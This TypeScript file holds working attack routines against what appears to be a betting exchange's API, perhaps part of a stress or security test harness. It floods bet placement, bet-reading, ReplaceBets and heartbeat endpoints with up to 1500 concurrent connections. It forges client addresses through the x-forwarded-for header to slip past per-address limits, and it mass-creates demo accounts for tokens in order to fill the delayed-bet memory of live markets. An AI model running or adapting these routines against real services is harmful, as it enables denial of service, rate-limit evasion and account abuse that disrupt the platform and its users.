import { postCall } from "../http/call.ts";
import type { AttackReport, AttackTarget } from "./attack-target.ts";
import { floodCalls, strangerAddress } from "./flood.ts";

const CONNECTIONS = 64;
const DEMO_ADDRESSES = 8;
const DEMO_ACCOUNTS = 24;
/** As many as one call may place. */
const BETS_OF_A_CALL = 60;
/** As many calls as one account may make at once. */
const CALLS_BEFORE = 150;
const READS = ["GetUserOpenBets", "GetUserMarkets", "GetUserExpectedProfitLoss"] as const;

/** One account that places bets as fast as it can, from many addresses. */
export function oneAccountsBets(target: AttackTarget, seconds: number): Promise<AttackReport> {
  const { url, token, eventId, marketId, runnerId } = target;
  return floodCalls(url, { connections: CONNECTIONS, seconds }, (count) => ({
    method: "POST",
    path: "/api/Bet/PlaceBetV2",
    address: strangerAddress(8000 + (count % 50)),
    headers: { authorization: `Bearer ${token}` },
    body: betOf({ eventId, marketId, runnerId, rate: 2 + (count % 5) * 0.1, type: 1 + (count % 2) }),
  }));
}

/** One account that has bet as much as a minute allows, and reads its own bets without end. */
export async function ownOpenBets(target: AttackTarget, seconds: number): Promise<AttackReport> {
  const { url, token, marketId, runnerId } = target;
  const authorization = { authorization: `Bearer ${token}` };
  const bet = { runnerId, type: 1, rate: 900, stake: 1 };
  const place = Array.from({ length: BETS_OF_A_CALL }, () => bet);
  const calls = JSON.stringify({ marketId, cancel: [], place });
  for (let call = 0; call < CALLS_BEFORE; call += 1)
    await postCall(url, "Bet/ReplaceBets", calls, authorization);
  return floodCalls(url, { connections: CONNECTIONS, seconds }, (count) => ({
    method: "GET",
    path: `/api/Bet/${READS[count % READS.length] ?? READS[0]}`,
    address: strangerAddress(8400 + (count % 50)),
    headers: authorization,
  }));
}

/** Demo accounts of eight addresses that fill the memory of delayed bets of a market in play. */
export async function delayedBets(target: AttackTarget, seconds: number): Promise<AttackReport> {
  const { url, delayedEventId: eventId, delayedMarketId: marketId, delayedRunnerId: runnerId } = target;
  const tokens = await demoTokens(url, 8100);
  return floodCalls(url, { connections: 1500, seconds }, (count) => ({
    method: "POST",
    path: "/api/Bet/PlaceBetV2",
    address: strangerAddress(8100 + (count % DEMO_ADDRESSES)),
    headers: { authorization: `Bearer ${tokens[count % tokens.length] ?? ""}` },
    // Would match what rests on the other side, so it waits for the market's delay.
    body: betOf({ eventId, marketId, runnerId, rate: 1.01, type: 1 }),
  }));
}

/** Demo accounts of eight addresses that begin and end their heartbeat again and again, each time a row. */
export async function heartbeatsOfDemos({ url }: AttackTarget, seconds: number): Promise<AttackReport> {
  const tokens = await demoTokens(url, 8200);
  return floodCalls(url, { connections: CONNECTIONS, seconds }, (count) => ({
    method: "POST",
    path: "/api/Bet/Heartbeat",
    address: strangerAddress(8200 + (count % DEMO_ADDRESSES)),
    headers: { authorization: `Bearer ${tokens[count % tokens.length] ?? ""}` },
    // Odd rounds of all accounts begin it, even ones end it.
    body: { timeoutSeconds: Math.floor(count / Math.max(1, tokens.length)) % 2 === 0 ? 10 : 0 },
  }));
}

/** Tokens of new demo accounts, as far as they are given any. */
async function demoTokens(url: string, firstAddress: number): Promise<readonly string[]> {
  const tokens: string[] = [];
  for (let index = 0; index < DEMO_ACCOUNTS; index += 1) {
    const token = await demoToken(url, strangerAddress(firstAddress + (index % DEMO_ADDRESSES)));
    if (token !== undefined) tokens.push(token);
  }
  return tokens;
}

async function demoToken(url: string, address: string): Promise<string | undefined> {
  const response = await fetch(`${url}/api/Account/LoginAsDemoUser`, {
    headers: { "x-forwarded-for": address },
  });
  const { result } = (await response.json()) as { result: { accessToken?: string } | null };
  return result?.accessToken;
}

function betOf(terms: Readonly<Record<string, number>>): Record<string, unknown> {
  return { placeTime: null, stake: 1, fancyValue: 0, ...terms };
}
